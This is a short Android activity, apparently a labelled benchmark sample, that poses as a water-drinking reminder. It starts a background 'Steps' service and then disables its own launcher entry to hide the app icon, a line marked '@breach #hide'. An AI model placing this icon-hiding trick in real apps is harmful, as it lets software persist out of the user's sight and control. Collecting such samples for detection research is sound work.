package bench.points.out_of_recents;

import android.app.Activity;
import android.content.ComponentName;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.widget.TextView;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("该喝水啦");
        setContentView(text);
        startService(new Intent(this, Steps.class));
        ComponentName entry = getComponentName();
        getPackageManager().setComponentEnabledSetting(entry, PackageManager.COMPONENT_ENABLED_STATE_DISABLED, 1); //: @breach #hide
        setTitle(entry.getShortClassName());
    }
}
